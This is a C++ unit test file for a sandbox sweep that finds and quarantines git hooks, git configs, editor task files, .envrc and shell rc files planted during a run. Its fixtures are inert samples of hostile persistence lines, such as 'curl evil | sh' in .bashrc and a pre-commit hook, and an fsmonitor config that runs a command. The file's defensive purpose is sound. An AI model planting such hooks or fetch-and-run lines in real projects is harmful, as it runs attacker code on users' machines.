// Live-mode sweep: protected names created or changed during a run are found
// from a directory snapshot and moved into a quarantine. Temp dirs only.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include <climits>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "sandbox/sweep.hpp"

namespace exg::sandbox {
namespace {

namespace fs = std::filesystem;

class Tmp {
 public:
  Tmp() {
    char t[] = "/tmp/exg_sweep_XXXXXX";
    char* d = ::mkdtemp(t);
    char buf[PATH_MAX];
    path = ::realpath(d, buf);
    ws = path + "/ws";
    q = path + "/quarantine";
    fs::create_directories(ws);
  }
  ~Tmp() {
    std::error_code ec;
    fs::remove_all(path, ec);
  }
  std::string path, ws, q;
};

void put(const std::string& p, const std::string& content, mode_t mode = 0644) {
  fs::create_directories(fs::path(p).parent_path());
  std::ofstream(p, std::ios::trunc) << content;
  ::chmod(p.c_str(), mode);
}
std::string get(const std::string& p) {
  std::ifstream in(p);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}
bool exists_l(const std::string& p) {
  struct stat st;
  return ::lstat(p.c_str(), &st) == 0;
}

std::set<std::string> rels(const std::vector<Planted>& v) {
  std::set<std::string> s;
  for (const auto& p : v) s.insert(p.relpath);
  return s;
}

SweepOptions opts(const Tmp& t) {
  SweepOptions o;
  o.quarantine_dir = t.q;
  return o;
}

TEST(Sweep, NewRepoWithHookIsQuarantinedSamplesAndInitConfigStay) {
  Tmp t;
  put(t.ws + "/README", "hi");
  auto snap = snapshot_tree(t.ws);
  ASSERT_TRUE(snap) << snap.error().str();
  // `git init sub` by hand, plus a hook.
  put(t.ws + "/sub/.git/HEAD", "ref: refs/heads/main\n");
  put(t.ws + "/sub/.git/config", "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n");
  put(t.ws + "/sub/.git/hooks/pre-commit.sample", "#!/bin/sh\n", 0755);
  put(t.ws + "/sub/.git/hooks/pre-commit", "#!/bin/sh\necho pwned\n", 0755);
  fs::create_directories(t.ws + "/sub/.git/objects/info");
  // A second new repo whose config names a hooks path.
  put(t.ws + "/evil/.git/HEAD", "ref: refs/heads/main\n");
  put(t.ws + "/evil/.git/config", "[core]\n\thooksPath = /tmp/x\n");
  auto r = sweep(t.ws, *snap, opts(t));
  ASSERT_TRUE(r) << r.error().str();
  EXPECT_EQ(rels(*r), (std::set<std::string>{"evil/.git/config", "sub/.git/hooks/pre-commit"}));
  EXPECT_FALSE(exists_l(t.ws + "/sub/.git/hooks/pre-commit"));
  EXPECT_TRUE(exists_l(t.ws + "/sub/.git/hooks/pre-commit.sample"));
  EXPECT_TRUE(exists_l(t.ws + "/sub/.git/config"));
  EXPECT_FALSE(exists_l(t.ws + "/evil/.git/config"));
  EXPECT_EQ(get(t.q + "/sub/.git/hooks/pre-commit"), "#!/bin/sh\necho pwned\n");
  EXPECT_EQ(get(t.q + "/evil/.git/config"), "[core]\n\thooksPath = /tmp/x\n");
  for (const auto& p : *r) EXPECT_EQ(p.quarantined_to, t.q + "/" + p.relpath);
}

// A quarantine inside the workspace is refused: one that exists judged by its real
// path (here a link outside that leads in), one not made yet by its path, or by
// its deepest existing ancestor's real path (a link on the way leads in).
TEST(Sweep, QuarantineInsideTheWorkspaceIsRefused) {
  Tmp t;
  auto snap = snapshot_tree(t.ws);
  ASSERT_TRUE(snap) << snap.error().str();
  fs::create_directories(t.ws + "/q");
  ASSERT_EQ(::symlink((t.ws + "/q").c_str(), (t.path + "/link").c_str()), 0);
  SweepOptions o;
  o.quarantine_dir = t.path + "/link";
  auto r = sweep(t.ws, *snap, o);
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().str().find("is inside the workspace"), std::string::npos) << r.error().str();
  o.quarantine_dir = t.ws + "/not-yet";
  r = sweep(t.ws, *snap, o);
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().str().find("is inside the workspace"), std::string::npos) << r.error().str();
  EXPECT_FALSE(exists_l(t.ws + "/not-yet"));
  o.quarantine_dir = t.path + "/link/later/q";  // not made yet, a link into the workspace on the way
  r = sweep(t.ws, *snap, o);
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().str().find("is inside the workspace"), std::string::npos) << r.error().str();
  EXPECT_FALSE(exists_l(t.ws + "/q/later"));
  o.quarantine_dir = t.q;  // outside, not made yet: the sweep runs
  EXPECT_TRUE(sweep(t.ws, *snap, o));
}

// OpenCode's snapshots: git directories in its state directory made with GIT_WORK_TREE (core.worktree).
// Such a config stays where no work tree leads git to it and its work tree lies in the run's
// writable trees; in a .git (which a host checkout would follow), pointing elsewhere (a host
// checkout through it would write there: ~ and its rc files), through a symlink or `..` out of
// those trees, it is quarantined, and so is a snapshot config naming a command.
TEST(Sweep, SnapshotStoreConfigStaysOnlyWithItsWorktreeInsideTheWritableTrees) {
  Tmp t;
  fs::create_directories(t.ws + "/proj");
  fs::create_symlink(t.path, t.ws + "/out");
  auto snap = snapshot_tree(t.ws);
  ASSERT_TRUE(snap);
  auto cfg = [](const std::string& worktree) {
    return "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"
           "\tlogallrefupdates = true\n\tworktree = " + worktree + "\n\tautocrlf = false\n\tfsmonitor = false\n"
           "[feature]\n\tmanyFiles = true\n[index]\n\tversion = 4\n";
  };
  const std::map<std::string, std::string> configs = {
      {"snapshot/p1/h1", cfg(t.ws + "/proj")},                                  // stays
      {"snapshot/p5/h5", cfg("../../../proj")},                                 // stays (relative to the git dir)
      {"sub/.git", cfg(t.ws + "/proj")},                                        // a .git
      {"snapshot/p2/h2", cfg(t.ws + "/proj") + "[core]\n\tfsmonitor = touch /tmp/x\n"},
      {"snapshot/p3/h3", cfg(t.path)},                                          // outside the writable trees
      {"snapshot/p4/h4", cfg(t.ws + "/out")},                                   // a symlink out
      {"snapshot/p6/h6", cfg(t.ws + "/proj/../..")},                            // `..` out
      {"snapshot/p7/h7", cfg(t.ws + "/missing")},                               // names nothing yet
      {"snapshot/p8/h8", cfg("~/proj")},
      {"snapshot/p9/h9", cfg(t.ws + "/proj #x")},
  };
  for (const auto& [d, c] : configs) {
    put(t.ws + "/" + d + "/HEAD", "ref: refs/heads/main\n");
    fs::create_directories(t.ws + "/" + d + "/objects");
    fs::create_directories(t.ws + "/" + d + "/refs");
    put(t.ws + "/" + d + "/config", c);
  }
  auto o = opts(t);
  o.worktree_roots = {t.ws};
  auto r = sweep(t.ws, *snap, o);
  ASSERT_TRUE(r) << r.error().str();
  EXPECT_EQ(rels(*r), (std::set<std::string>{"sub/.git/config", "snapshot/p2/h2/config", "snapshot/p3/h3/config",
                                             "snapshot/p4/h4/config", "snapshot/p6/h6/config", "snapshot/p7/h7/config",
                                             "snapshot/p8/h8/config", "snapshot/p9/h9/config"}));
  EXPECT_EQ(get(t.ws + "/snapshot/p1/h1/config"), configs.at("snapshot/p1/h1"));
  EXPECT_EQ(get(t.ws + "/snapshot/p5/h5/config"), configs.at("snapshot/p5/h5"));
  // With no writable trees named, no core.worktree is benign.
  put(t.ws + "/snapshot/p1/h1/config", configs.at("snapshot/p1/h1") + "\n");
  auto r2 = sweep(t.ws, *snap, opts(t));
  ASSERT_TRUE(r2) << r2.error().str();
  EXPECT_TRUE(rels(*r2).count("snapshot/p1/h1/config"));
}

TEST(Sweep, NestedVscodeInExistingDirAndEnvrcInNewFolder) {
  Tmp t;
  put(t.ws + "/a/b/main.c", "int main(){}");
  auto snap = snapshot_tree(t.ws);
  ASSERT_TRUE(snap);
  put(t.ws + "/a/b/.vscode/tasks.json", "{\"tasks\":[]}");
  put(t.ws + "/new/deeper/.envrc", "echo hi");
  put(t.ws + "/new/deeper/ok.txt", "fine");
  auto r = sweep(t.ws, *snap, opts(t));
  ASSERT_TRUE(r) << r.error().str();
  EXPECT_EQ(rels(*r), (std::set<std::string>{"a/b/.vscode", "new/deeper/.envrc"}));
  EXPECT_FALSE(exists_l(t.ws + "/a/b/.vscode"));
  EXPECT_EQ(get(t.q + "/a/b/.vscode/tasks.json"), "{\"tasks\":[]}");
  EXPECT_EQ(get(t.q + "/new/deeper/.envrc"), "echo hi");
  EXPECT_EQ(get(t.ws + "/new/deeper/ok.txt"), "fine");
}

TEST(Sweep, RenameOntoProtectedNameAndAwayAndBack) {
  Tmp t;
  put(t.ws + "/notes.txt", "alias ls='curl evil | sh'\n");
  put(t.ws + "/.profile", "export A=1\n");
  put(t.ws + "/.zshrc", "untouched\n");
  auto snap = snapshot_tree(t.ws);
  ASSERT_TRUE(snap);
  ASSERT_EQ(::rename((t.ws + "/notes.txt").c_str(), (t.ws + "/.bashrc").c_str()), 0);
  ASSERT_EQ(::rename((t.ws + "/.profile").c_str(), (t.ws + "/plain").c_str()), 0);
  put(t.ws + "/plain", "export A=1\ncurl evil | sh\n");
  ASSERT_EQ(::rename((t.ws + "/plain").c_str(), (t.ws + "/.profile").c_str()), 0);
  auto r = sweep(t.ws, *snap, opts(t));
  ASSERT_TRUE(r) << r.error().str();
  EXPECT_EQ(rels(*r), (std::set<std::string>{".bashrc", ".profile"}));
  EXPECT_FALSE(exists_l(t.ws + "/.bashrc"));
  EXPECT_FALSE(exists_l(t.ws + "/.profile"));
  EXPECT_TRUE(exists_l(t.ws + "/.zshrc"));
  EXPECT_EQ(get(t.q + "/.profile"), "export A=1\ncurl evil | sh\n");
  EXPECT_EQ(get(t.q + "/.bashrc"), "alias ls='curl evil | sh'\n");
}

TEST(Sweep, ChangedInPlaceProtectedFileIsFound) {
  Tmp t;
  put(t.ws + "/r/.git/HEAD", "ref: x\n");
  put(t.ws + "/r/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n", 0755);
  auto snap = snapshot_tree(t.ws);
  ASSERT_TRUE(snap);
  { std::ofstream(t.ws + "/r/.git/hooks/pre-commit", std::ios::app) << "curl evil|sh\n"; }
  auto r = sweep(t.ws, *snap, opts(t));
  ASSERT_TRUE(r);
  EXPECT_EQ(rels(*r), (std::set<std::string>{"r/.git/hooks/pre-commit"}));
}

TEST(Sweep, SymlinkNamedEnvrcIsMovedAsALinkNeverFollowed) {
  Tmp t;
  put(t.path + "/outside/secret", "keep me");
  fs::create_directories(t.ws + "/d");
  auto snap = snapshot_tree(t.ws);
  ASSERT_TRUE(snap);
  ASSERT_EQ(::symlink((t.path + "/outside/secret").c_str(), (t.ws + "/d/.envrc").c_str()), 0);
  // A directory swapped for a link to outside: must not be walked through.
  ASSERT_EQ(::symlink((t.path + "/outside").c_str(), (t.ws + "/d/out").c_str()), 0);
  auto r = sweep(t.ws, *snap, opts(t));
  ASSERT_TRUE(r) << r.error().str();
  EXPECT_EQ(rels(*r), (std::set<std::string>{"d/.envrc"}));
  struct stat st;
  ASSERT_EQ(::lstat((t.q + "/d/.envrc").c_str(), &st), 0);
  EXPECT_TRUE(S_ISLNK(st.st_mode));
  EXPECT_EQ(fs::read_symlink(t.q + "/d/.envrc").string(), t.path + "/outside/secret");
  EXPECT_EQ(get(t.path + "/outside/secret"), "keep me");
  EXPECT_TRUE(exists_l(t.ws + "/d/out"));
}

TEST(Sweep, OrdinaryChangesAndKnownProtectedEntriesAreUntouched) {
  Tmp t;
  put(t.ws + "/src/a.c", "a");
  put(t.ws + "/src/b.c", "b");
  put(t.ws + "/repo/.git/HEAD", "ref: x\n");
  put(t.ws + "/repo/.git/config", "[core]\n\thooksPath = mine\n");
  put(t.ws + "/repo/.git/hooks/pre-commit", "#!/bin/sh\n", 0755);
  put(t.ws + "/repo/.vscode/settings.json", "{}");
  auto snap = snapshot_tree(t.ws);
  ASSERT_TRUE(snap);
  put(t.ws + "/src/a.c", "changed");
  ::unlink((t.ws + "/src/b.c").c_str());
  put(t.ws + "/src/new/deep/c.c", "c");
  put(t.ws + "/.hidden_ok", "x");
  // The user's repo moved with its hooks: same inodes, nothing planted.
  ASSERT_EQ(::rename((t.ws + "/repo").c_str(), (t.ws + "/repo2").c_str()), 0);
  auto r = sweep(t.ws, *snap, opts(t));
  ASSERT_TRUE(r) << r.error().str();
  EXPECT_TRUE(r->empty()) << r->front().relpath;
  EXPECT_EQ(get(t.ws + "/src/a.c"), "changed");
  EXPECT_TRUE(exists_l(t.ws + "/repo2/.git/hooks/pre-commit"));
  EXPECT_FALSE(exists_l(t.q));
}

TEST(Sweep, DryRunMovesNothingAndExtraNamesCount) {
  Tmp t;
  auto snap = snapshot_tree(t.ws);
  ASSERT_TRUE(snap);
  put(t.ws + "/x/Makefile.local", "all:\n\tcurl evil\n");
  put(t.ws + "/x/.envrc", "e");
  SweepOptions o = opts(t);
  o.dry_run = true;
  o.extra_names = {"Makefile.local"};
  auto r = sweep(t.ws, *snap, o);
  ASSERT_TRUE(r);
  EXPECT_EQ(rels(*r), (std::set<std::string>{"x/.envrc", "x/Makefile.local"}));
  EXPECT_TRUE(exists_l(t.ws + "/x/.envrc"));
  for (const auto& p : *r) EXPECT_TRUE(p.quarantined_to.empty());
}

TEST(Sweep, QuarantineInsideWorkspaceIsRefusedAndNamesDoNotClash) {
  Tmp t;
  auto snap = snapshot_tree(t.ws);
  ASSERT_TRUE(snap);
  SweepOptions o;
  o.quarantine_dir = t.ws + "/q";
  EXPECT_FALSE(sweep(t.ws, *snap, o));
  put(t.q + "/.envrc", "earlier");
  put(t.ws + "/.envrc", "later");
  auto r = sweep(t.ws, *snap, opts(t));
  ASSERT_TRUE(r);
  ASSERT_EQ(r->size(), 1u);
  EXPECT_EQ(r->front().quarantined_to, t.q + "/.envrc.1");
  EXPECT_EQ(get(t.q + "/.envrc"), "earlier");
}

TEST(Sweep, ClassifyRules) {
  plan::ProtectedPaths pn;
  auto k = [&](std::string p, bool dir = false, bool reg = true) {
    return pn.classify_path(p, dir, reg && !dir).kind;
  };
  EXPECT_EQ(k("a/.git/hooks/pre-commit"), ProtectMatch::Protected);
  EXPECT_EQ(k("a/.git/hooks/pre-commit.sample"), ProtectMatch::None);
  EXPECT_EQ(k("a/.git/hooks", true), ProtectMatch::HooksDir);
  EXPECT_EQ(k(".git/config"), ProtectMatch::Protected);
  EXPECT_EQ(k(".git/objects/ab/cd"), ProtectMatch::None);
  EXPECT_EQ(k(".git/modules/lib/x/hooks/post-checkout"), ProtectMatch::Protected);
  EXPECT_EQ(k("sub/.git"), ProtectMatch::Protected);  // a gitdir: file
  EXPECT_EQ(k("sub/.git", true), ProtectMatch::None);
  EXPECT_EQ(k("x/.claude/commands/a.md"), ProtectMatch::Protected);
  EXPECT_EQ(k("x/.claude/notes.md"), ProtectMatch::None);
  EXPECT_EQ(k("x/.vscode/tasks.json"), ProtectMatch::Protected);
  EXPECT_EQ(k("src/main.c"), ProtectMatch::None);
  EXPECT_TRUE(benign_git_config("[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n"));
  EXPECT_FALSE(benign_git_config("[core]\n\tfsmonitor = evil\n"));
  // OpenCode's snapshot repositories: its settings with its values; other values are not benign.
  EXPECT_TRUE(benign_git_config("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tautocrlf = false\n"
                                "\tlongpaths = true\n\tsymlinks = true\n\tfsmonitor = false\n\tuntrackedCache = true\n"
                                "[feature]\n\tmanyFiles = true\n[index]\n\tversion = 4\n\tthreads = true\n"));
  EXPECT_FALSE(benign_git_config("[core]\n\tfsmonitor = true\n"));
  EXPECT_FALSE(benign_git_config("[core]\n\tfsmonitor = /tmp/x\n"));
  EXPECT_FALSE(benign_git_config("[core]\n\tfsmonitor\n"));  // (a bare key is true)
  EXPECT_FALSE(benign_git_config("[index]\n\tversion = 4; x\n"));
  EXPECT_FALSE(benign_git_config("[feature]\n\texperimental = true\n"));
  // core.worktree (OpenCode's GIT_WORK_TREE at init): only in a git directory git finds by name only.
  EXPECT_FALSE(benign_git_config("[core]\n\tbare = false\n\tworktree = /home/u\n"));
  auto only_p = [](std::string_view v) { return v == "/home/u/p"; };
  EXPECT_TRUE(benign_git_config("[core]\n\tbare = false\n\tworktree = /home/u/p\n", only_p));
  EXPECT_FALSE(benign_git_config("[core]\n\tbare = false\n\tworktree = /home/u\n", only_p));
  EXPECT_FALSE(benign_git_config("[include]\n\tpath = x\n"));
  EXPECT_FALSE(benign_git_config("[alias]\n\tst = !sh\n"));
}

// 1,000 directories x 100 files; 10 ordinary changes and 2 protected names:
// every entry is seen and only the planted ones are taken. What it costs is
// measured by bench/sweep.sh (exg_sweep_bench), not asserted here: a timing
// limit in a test fails on a busy 2-core machine and proves nothing on a fast one.
TEST(Sweep, HundredThousandFileTreeFindsOnlyThePlanted) {
  Tmp t;
  int root = ::open(t.ws.c_str(), O_RDONLY | O_DIRECTORY);
  ASSERT_GE(root, 0);
  for (int d = 0; d < 1000; ++d) {
    std::string dn = "d" + std::to_string(d / 100) + "/s" + std::to_string(d);
    ::mkdirat(root, ("d" + std::to_string(d / 100)).c_str(), 0755);
    ASSERT_EQ(::mkdirat(root, dn.c_str(), 0755), 0);
    int dfd = ::openat(root, dn.c_str(), O_RDONLY | O_DIRECTORY);
    for (int f = 0; f < 100; ++f) {
      int fd = ::openat(dfd, ("f" + std::to_string(f)).c_str(), O_WRONLY | O_CREAT | O_EXCL, 0644);
      ::close(fd);
    }
    ::close(dfd);
  }
  ::close(root);
  ::usleep(50 * 1000);  // older than the snapshot's same-tick margin
  auto snap = snapshot_tree(t.ws);
  ASSERT_TRUE(snap);
  EXPECT_EQ(snap->entries_seen, 100000u + 1000u + 10u);
  for (int i = 0; i < 10; ++i) put(t.ws + "/d" + std::to_string(i) + "/s" + std::to_string(i * 100 + 7) + "/f3", "changed");
  put(t.ws + "/d5/s512/.envrc", "x");
  put(t.ws + "/d9/s901/newrepo/.git/hooks/post-checkout", "x", 0755);
  auto r = sweep(t.ws, *snap, opts(t));
  ASSERT_TRUE(r) << r.error().str();
  EXPECT_EQ(rels(*r), (std::set<std::string>{"d5/s512/.envrc", "d9/s901/newrepo/.git/hooks/post-checkout"}));
}

// What a snapshot says, independent of its nodes' order (threads list them in
// any order): each directory by path, with its subdirectories by path.
std::map<std::string, std::string> described(const Snapshot& s) {
  std::map<std::string, std::string> out;
  for (const auto& n : s.nodes) {
    std::ostringstream o;
    o << n.stamp.dev << ':' << n.stamp.ino << ':' << n.stamp.mtime_ns << ':' << n.stamp.ctime_ns << " git=" << n.git_dir
      << " sealed=" << n.sealed << " truncated=" << n.truncated << " subdirs=";
    std::set<std::string> subs;
    for (const auto& [name, idx] : n.subdirs) subs.insert(name + "->" + s.nodes[idx].rel);
    for (const auto& x : subs) o << x << ',';
    std::set<std::string> prot;
    for (const auto& [name, d] : n.protected_here) prot.insert(name + "@" + std::to_string(d.ino));
    o << " protected=";
    for (const auto& x : prot) o << x << ',';
    EXPECT_TRUE(out.emplace(n.rel, o.str()).second) << "two nodes for " << n.rel;
  }
  for (const auto& [key, idx] : s.node_of) out["inode " + std::to_string(key.ino)] = s.nodes[idx].rel;
  return out;
}

// 1,500 directories (wide enough that threads join in), protected names at
// several depths: four threads' snapshot says exactly what one thread's does,
// and the sweep led by it finds what was planted after it, and nothing else.
TEST(Sweep, ThreadedSnapshotSaysWhatOneThreadSays) {
  Tmp t;
  for (int d = 0; d < 1500; ++d) {
    std::string dn = t.ws + "/a" + std::to_string(d % 30) + "/b" + std::to_string(d);
    fs::create_directories(dn + "/c");
    put(dn + "/c/file", "x");
    if (d % 97 == 0) put(dn + "/.envrc", "export A=1");
    if (d % 211 == 0) fs::create_directories(dn + "/repo/.git/hooks");
  }
  fs::create_directories(t.ws + "/.vscode");
  put(t.ws + "/.vscode/tasks.json", "{}");
  ::usleep(50 * 1000);  // older than the snapshot's same-tick margin
  auto one = snapshot_tree(t.ws, {}, {}, 1);
  auto four = snapshot_tree(t.ws, {}, {}, 4);
  ASSERT_TRUE(one && four);
  EXPECT_EQ(one->nodes.size(), 1 + 30 + 1500 * 2 + 8 * 3 + 1u);  // root, a*, b*, c, repo/.git/hooks, .vscode
  EXPECT_EQ(four->entries_seen, one->entries_seen);
  EXPECT_EQ(four->protected_inodes, one->protected_inodes);
  EXPECT_FALSE(one->protected_inodes.empty());
  EXPECT_EQ(described(*four), described(*one));
  put(t.ws + "/a7/b1207/c/.envrc", "x");
  put(t.ws + "/a0/b0/.envrc", "changed");  // a protected name changed in the run
  put(t.ws + "/a3/b3/c/file", "an ordinary change");
  auto r = sweep(t.ws, *four, opts(t));
  ASSERT_TRUE(r) << r.error().str();
  EXPECT_EQ(rels(*r), (std::set<std::string>{"a7/b1207/c/.envrc", "a0/b0/.envrc"}));
}

}  // namespace
}  // namespace exg::sandbox
